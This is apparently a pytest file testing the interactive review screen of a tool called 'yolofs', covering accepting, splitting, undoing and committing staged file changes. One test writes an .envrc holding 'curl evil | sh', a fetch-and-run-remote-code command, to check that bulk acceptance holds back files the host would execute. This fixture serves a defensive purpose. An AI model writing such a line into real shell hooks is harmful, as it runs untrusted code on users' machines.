"""What is accepted in ``yolofs review``, and that just this is committed."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli.review.reviewing import LINES, at, review
from tests.support.program import Program

pytestmark = pytest.mark.mount


def test_space_accepts_a_file_and_enter_shows_a_page_and_commits_just_that(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "new.txt")
        terminal.wait_for_screen("+first")
        terminal.type(" ")
        terminal.wait_for_screen("x   A new.txt", "1 accepted")
        terminal.type("\r")
        terminal.wait_for_screen("this commit would apply 1 change: 1 added", "2 changes stay staged", "enter commits")
        assert not (yolofs.project / "src/new.txt").exists()
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done; to take it back: yolofs undo 1", "2 changes")
        assert (yolofs.project / "src/new.txt").read_text() == "first\nsecond\nthird\n"
        assert (yolofs.project / "gone.txt").exists()
        terminal.type("q")
        assert terminal.wait() == 0
    assert [change["path"].rpartition("/")[2] for change in yolofs("status", "--json").json["changes"]] == [
        "gone.txt",
        "a.py",
    ]


def test_space_in_the_lines_accepts_a_hunk(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "a.py")
        terminal.type("l")
        terminal.type(" ")
        terminal.wait_for_screen("~   M a.py", "x┃@@ -2 +2 @@", "x┃-line 2", "x┃+line two")
        terminal.type("\r")
        terminal.wait_for_screen("this commit would apply 1 change: 1 modified")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
        assert (yolofs.project / "src/a.py").read_text() == LINES.replace("line 2\n", "line two\n")
        assert (view / "src/a.py").read_text().count("line twenty") == 1


def test_s_splits_a_hunk_so_that_space_accepts_single_lines_of_it(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "new.txt")
        terminal.wait_for_screen("+first")
        terminal.type("s")
        terminal.type("j ")
        terminal.wait_for_screen("~   A new.txt", "x┃+second")
        terminal.type("\r")
        terminal.wait_for_screen("1 added")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
        assert (yolofs.project / "src/new.txt").read_text() == "second\n"
        assert (view / "src/new.txt").read_text() == "first\nsecond\nthird\n"


def test_space_on_a_directory_accepts_all_in_it_and_u_takes_that_back(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("jj ")
        terminal.wait_for_screen("2 accepted", "x   src/", "x   M a.py", "x   A new.txt")
        terminal.type("u")
        terminal.wait_for_screen("3 changes", gone="accepted")


def test_a_accepts_everything_and_q_asks_before_it_leaves_that(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        terminal.type("a")
        terminal.wait_for_screen("3 accepted")
        terminal.type("q")
        terminal.wait_for_screen("3 accepted and not committed: leave all the same?")
        terminal.type("n")
        terminal.wait_for_screen("space accept", gone="leave all the same")
        terminal.type("q")
        terminal.wait_for_screen("leave all the same?")
        terminal.type("y")
        assert terminal.wait() == 0
    assert (yolofs.project / "gone.txt").exists()
    assert len(yolofs("status", "--json").json["changes"]) == 3


def test_a_change_that_has_become_stale_is_marked_and_has_to_be_accepted_again(yolofs: Program, view: Path) -> None:
    with review(yolofs) as terminal:
        terminal.wait_for_screen("-precious")
        at(terminal, "new.txt")
        terminal.wait_for_screen("+first")
        terminal.type(" ")
        terminal.wait_for_screen("1 accepted")
        (view / "src/new.txt").write_text("first\nand something worse\n")
        terminal.wait_for_screen("!   A new.txt", "has changed since", "+and something worse", gone="1 accepted")
        terminal.type("\r")
        terminal.wait_for_screen("nothing is accepted yet")


def test_accepting_everything_leaves_out_files_that_the_host_would_run(yolofs: Program, view: Path) -> None:
    (view / ".envrc").write_text("curl evil | sh\n")
    with review(yolofs) as terminal:
        terminal.wait_for_screen("what the host would run or trust (1)", "A .envrc [run on entering")
        terminal.type("a")
        terminal.wait_for_screen("3 accepted", "1 that the host would run or trust: accept these one by one")
        at(terminal, ".envrc")
        terminal.wait_for_screen("curl evil")
        terminal.type(" \r")
        terminal.wait_for_screen("1 of which the host would run or", ".envrc  [run on entering the directory]")
        terminal.type("\r")
        terminal.wait_for_screen("commit 1 done")
    assert (yolofs.project / ".envrc").read_text() == "curl evil | sh\n"
